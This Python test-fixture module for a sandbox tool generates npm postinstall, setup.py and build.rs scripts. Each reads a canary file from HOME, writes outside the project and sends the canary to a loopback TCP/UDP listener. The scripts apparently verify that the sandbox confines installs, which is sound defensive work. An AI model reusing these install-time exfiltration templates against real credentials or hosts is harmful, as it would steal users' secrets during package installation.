"""Hostile build-time code for the tests: an npm install script, a setup.py, a build.rs.

Each one (a) reads the canary file, (c) writes ``outside_path``, (b) connects to the listener
(and, with ``udp_port``, sends it a datagram) and sends "SBOX-LEAK <canary>", then (d) writes
a JSON proof into ``proof_path`` (and prints it to stderr after "SBOX-PROOF "). Proof keys:
ecosystem, ran, read_canary, canary, wrote_outside, connected, udp_sent, home, cwd, profile
(``$SBOX_PROFILE``: which sbox step it ran in, null outside sbox), errors.

A ``proof_path`` containing ``{unique}`` gets a fresh value (pid and clock) at each run, so
code that runs more than once (a setup.py runs at ``pip download`` and again at install)
leaves one proof per run.
"""
from __future__ import annotations

import glob as _glob
import json
import secrets as _secrets
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from .listener import CanaryListener, UdpCanaryListener

LEAK_MARKER = "SBOX-LEAK"
PROOF_MARKER = "SBOX-PROOF"
UNIQUE = "{unique}"


def _config(canary: str, host: str, port: int, outside: str, proof: str, udp: int | None) -> str:
    cfg = {"canary": canary, "host": host, "port": port, "outside": outside, "proof": proof,
           "udp_port": udp or 0, "marker": LEAK_MARKER, "proof_marker": PROOF_MARKER}
    return json.dumps(cfg)


_NODE = r"""// sbox test fixture: a hostile install script. It only reports what it could do.
const fs = require("fs"), net = require("net"), dgram = require("dgram");
const C = __CONFIG__;
const proof = {ecosystem: "npm", ran: true, read_canary: false, canary: null,
  wrote_outside: false, connected: false, udp_sent: false, home: process.env.HOME || null,
  cwd: process.cwd(), profile: process.env.SBOX_PROFILE || null, errors: {}};
C.proof = C.proof.replace("{unique}", process.pid + "-" + process.hrtime.bigint());
try { proof.canary = fs.readFileSync(C.canary, "utf8"); proof.read_canary = true; }
catch (e) { proof.errors.read = String(e); }
try { fs.writeFileSync(C.outside, "SBOX-OUTSIDE\n"); proof.wrote_outside = true; }
catch (e) { proof.errors.write = String(e); }
const payload = C.marker + " " + (proof.read_canary ? proof.canary : "<unread>");
function finish() {
  const text = JSON.stringify(proof);
  try { fs.writeFileSync(C.proof, text); } catch (e) { proof.errors.proof = String(e); }
  process.stderr.write(C.proof_marker + " " + JSON.stringify(proof) + "\n");
  process.exit(0);
}
function udp() {
  if (!C.udp_port) return finish();
  try {
    const s = dgram.createSocket(net.isIPv6(C.host) ? "udp6" : "udp4");
    s.on("error", (e) => { proof.errors.udp = String(e); finish(); });
    s.send(payload, C.udp_port, C.host, (e) => {
      if (e) proof.errors.udp = String(e); else proof.udp_sent = true;
      finish();
    });
  } catch (e) { proof.errors.udp = String(e); finish(); }
}
let done = false;
const sock = net.connect({host: C.host, port: C.port});
const next = (err) => {
  if (done) return;
  done = true;
  if (err) proof.errors.connect = String(err);
  sock.destroy();
  udp();
};
sock.setTimeout(3000, () => next("timeout"));
sock.on("error", next);
sock.on("connect", () => { proof.connected = true; sock.end(payload, () => next()); });
"""


def hostile_npm_script(
    canary_path: str, listener_host: str, listener_port: int, outside_path: str,
    proof_path: str, udp_port: int | None = None,
) -> str:
    """Node source for a ``postinstall``: ship as ``files={"hostile.js": ...}``,
    ``scripts={"postinstall": "node hostile.js"}``."""
    cfg = _config(canary_path, listener_host, listener_port, outside_path, proof_path, udp_port)
    return _NODE.replace("__CONFIG__", cfg)


_PYTHON = r'''# sbox test fixture: hostile build-time code. It only reports what it could do.
import json as _j, os as _o, socket as _s, sys as _sys
_C = _j.loads(__CONFIG__)
_p = {"ecosystem": "pip", "ran": True, "read_canary": False, "canary": None,
      "wrote_outside": False, "connected": False, "udp_sent": False,
      "home": _o.environ.get("HOME"), "cwd": _o.getcwd(),
      "profile": _o.environ.get("SBOX_PROFILE"), "errors": {}}
_C["proof"] = _C["proof"].replace("{unique}", "%d-%d" % (_o.getpid(), __import__("time").time_ns()))
try:
    with open(_C["canary"]) as _f:
        _p["canary"], _p["read_canary"] = _f.read(), True
except Exception as _e:
    _p["errors"]["read"] = repr(_e)
try:
    with open(_C["outside"], "w") as _f:
        _f.write("SBOX-OUTSIDE\n")
    _p["wrote_outside"] = True
except Exception as _e:
    _p["errors"]["write"] = repr(_e)
_payload = (_C["marker"] + " " + (_p["canary"] if _p["read_canary"] else "<unread>")).encode()
try:
    with _s.create_connection((_C["host"], _C["port"]), timeout=3) as _c:
        _p["connected"] = True
        _c.sendall(_payload)
except Exception as _e:
    _p["errors"]["connect"] = repr(_e)
if _C["udp_port"]:
    try:
        _fam, _, _, _, _addr = _s.getaddrinfo(_C["host"], _C["udp_port"], type=_s.SOCK_DGRAM)[0]
        with _s.socket(_fam, _s.SOCK_DGRAM) as _u:
            _u.sendto(_payload, _addr)
        _p["udp_sent"] = True
    except Exception as _e:
        _p["errors"]["udp"] = repr(_e)
for _where in _C["proof"].split(":"):  # the first of the places the step may write
    try:
        with open(_where, "w") as _f:
            _j.dump(_p, _f)
        break
    except Exception as _e:
        _p["errors"]["proof"] = repr(_e)
print(_C["proof_marker"], _j.dumps(_p), file=_sys.stderr)
'''


def hostile_python(
    canary_path: str, listener_host: str, listener_port: int, outside_path: str,
    proof_path: str, udp_port: int | None = None,
) -> str:
    """Python source to put at the top of a ``setup.py`` (runs whenever pip builds it)."""
    cfg = _config(canary_path, listener_host, listener_port, outside_path, proof_path, udp_port)
    return _PYTHON.replace("__CONFIG__", repr(cfg))


_RUST = r"""// sbox test fixture: a hostile build script. It only reports what it could do.
use std::io::Write;
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::time::Duration;

fn q(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o + "\""
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let (canary_path, host, port, outside, proof, udp_port): (&str, &str, u16, &str, &str, u16) =
        (__CANARY__, __HOST__, __PORT__, __OUTSIDE__, __PROOF__, __UDP__);
    let mut errors: Vec<(&str, String)> = Vec::new();
    let canary = std::fs::read_to_string(canary_path)
        .map_err(|e| errors.push(("read", e.to_string())))
        .ok();
    let wrote = std::fs::write(outside, "SBOX-OUTSIDE\n")
        .map_err(|e| errors.push(("write", e.to_string())))
        .is_ok();
    let payload = format!("__MARKER__ {}", canary.as_deref().unwrap_or("<unread>"));
    let addr = (host, port).to_socket_addrs().ok().and_then(|mut a| a.next());
    let mut connected = false;
    match addr.map(|a| TcpStream::connect_timeout(&a, Duration::from_secs(3))) {
        Some(Ok(mut s)) => { connected = true; let _ = s.write_all(payload.as_bytes()); }
        Some(Err(e)) => errors.push(("connect", e.to_string())),
        None => errors.push(("connect", "no address".into())),
    }
    let mut udp_sent = false;
    if udp_port != 0 {
        let sent = (host, udp_port).to_socket_addrs().and_then(|mut a| {
            let a = a.next().ok_or(std::io::ErrorKind::NotFound)?;
            let sock = UdpSocket::bind(if a.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" })?;
            sock.send_to(payload.as_bytes(), a)
        });
        match sent { Ok(_) => udp_sent = true, Err(e) => errors.push(("udp", e.to_string())) }
    }
    let errs: Vec<String> = errors.iter().map(|(k, v)| format!("{}: {}", q(k), q(v))).collect();
    let cwd = std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default();
    let fields = [
        ("ecosystem", q("cargo")),
        ("ran", "true".into()),
        ("read_canary", canary.is_some().to_string()),
        ("canary", canary.as_deref().map(q).unwrap_or("null".into())),
        ("wrote_outside", wrote.to_string()),
        ("connected", connected.to_string()),
        ("udp_sent", udp_sent.to_string()),
        ("home", std::env::var("HOME").map(|h| q(&h)).unwrap_or("null".into())),
        ("cwd", q(&cwd)),
        ("profile", std::env::var("SBOX_PROFILE").map(|h| q(&h)).unwrap_or("null".into())),
        ("errors", format!("{{{}}}", errs.join(", "))),
    ];
    let body: Vec<String> = fields.iter().map(|(k, v)| format!("{}: {}", q(k), v)).collect();
    let text = format!("{{{}}}", body.join(", "));
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0);
    let proof = proof.replace("{unique}", &format!("{}-{}", std::process::id(), nanos));
    if let Err(e) = std::fs::write(&proof, &text) { eprintln!("proof: {}", e); }
    eprintln!("__PROOF_MARKER__ {}", text);
}
"""


def _rust_str(s: str) -> str:
    return '"' + "".join(
        "\\" + c if c in '"\\' else f"\\u{{{ord(c):x}}}" if ord(c) < 0x20 else c for c in s
    ) + '"'


def hostile_build_rs(
    canary_path: str, listener_host: str, listener_port: int, outside_path: str,
    proof_path: str, udp_port: int | None = None,
) -> str:
    """Rust ``build.rs`` (std only); ``proof_path`` must be absolute (the cwd is the crate's)."""
    subs = {"__CANARY__": _rust_str(canary_path), "__HOST__": _rust_str(listener_host),
            "__PORT__": str(listener_port), "__OUTSIDE__": _rust_str(outside_path),
            "__PROOF__": _rust_str(proof_path), "__UDP__": str(udp_port or 0),
            "__MARKER__": LEAK_MARKER, "__PROOF_MARKER__": PROOF_MARKER}
    source = _RUST
    for key, value in subs.items():
        source = source.replace(key, value)
    return source


# --- the trap a test sets for them ------------------------------------------------------------

@dataclass
class Trap:
    """A canary in the caller's HOME, TCP and UDP listeners on loopback, a path outside the
    project, and where the proofs go (one file per run: ``proof-{unique}.json`` in the project)."""

    token: str
    canary: Path
    outside: Path
    project: Path
    listener: CanaryListener
    udp: UdpCanaryListener
    # Where the steps under test may write (node_modules, target), project-relative or absolute,
    # ":"-separated: the Python script tries each in turn, the others take one.
    proofs_in: str = ""

    @property
    def proof_dirs(self) -> list[Path]:
        return [self.project / d for d in self.proofs_in.split(":")] if self.proofs_in else [self.project]

    @property
    def proof_path(self) -> str:
        return ":".join(str(d / f"proof-{UNIQUE}.json") for d in self.proof_dirs)

    def args(self) -> tuple[str, str, int, str, str, int]:
        """The positional arguments of ``hostile_npm_script`` / ``hostile_python`` / ``hostile_build_rs``."""
        return (str(self.canary), self.listener.host, self.listener.port, str(self.outside), self.proof_path,
                self.udp.port)

    def proofs(self) -> list[dict[str, Any]]:
        found = sorted(p for d in self.proof_dirs for p in _glob.glob(str(d / "proof-*.json")))
        return [json.loads(Path(p).read_text()) for p in found]

    def assert_confined(self, proof: dict[str, Any]) -> None:
        """The script ran and could do none of its four things."""
        assert proof["ran"] is True, proof
        assert proof["read_canary"] is False and proof["canary"] is None, proof
        assert proof["connected"] is False, proof
        assert proof["wrote_outside"] is False, proof
        assert set(proof["errors"]) >= {"read", "write", "connect"}, proof

    def assert_nothing_escaped(self, *outputs: str) -> None:
        """Seen from the host: no connection or datagram reached the listeners, nothing was written
        outside, and the canary's value appears in no output. (Inside a network namespace of its
        own a datagram to 127.0.0.1 may be "sent" into the void: what counts is what arrives.)"""
        assert self.listener.hits == 0 and self.listener.received == b"", self.listener.received
        assert self.udp.hits == 0, self.udp.datagrams
        assert not self.outside.exists()
        for text in outputs:
            assert self.token not in text

    def assert_leaked(self, proof: dict[str, Any]) -> None:
        """Unconfined (on the bare host): the script did all four things."""
        assert proof["read_canary"] is True and proof["canary"] == self.token, proof
        assert proof["connected"] is True and proof["wrote_outside"] is True, proof
        assert self.outside.read_text() == "SBOX-OUTSIDE\n"
        leak = f"{LEAK_MARKER} {self.token}".encode()
        assert self.listener.wait_for(1, leak), self.listener.received
        assert self.udp.wait_for(1, leak), self.udp.datagrams


@contextmanager
def trap(home: Path, tmp: Path, project: Path, proofs_in: str = "") -> Iterator[Trap]:
    """Plant a canary in ``home`` (the caller's HOME), listen on 127.0.0.1, and name an outside
    path in ``tmp`` that exists on the host but not under ``project``."""
    token = _secrets.token_hex(16)
    canary = home / ".sbox-canary"
    canary.write_text(token)
    outside_dir = tmp / "outside"
    outside_dir.mkdir(exist_ok=True)
    project.mkdir(parents=True, exist_ok=True)
    with CanaryListener() as listener, UdpCanaryListener() as udp:
        yield Trap(token, canary, outside_dir / "pwned", project, listener, udp, proofs_in)
